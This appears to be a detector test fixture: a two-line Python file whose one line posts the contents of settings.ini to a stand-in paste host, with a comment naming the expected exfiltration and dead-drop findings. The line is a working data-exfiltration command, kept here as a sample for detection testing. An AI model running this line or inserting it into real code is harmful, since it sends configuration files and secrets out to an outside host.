import requests

requests.post("https://paste.example/api", data=open("settings.ini").read()) # expect: data-exfiltration/dead-drop-host, url-analyzer/dead-drop
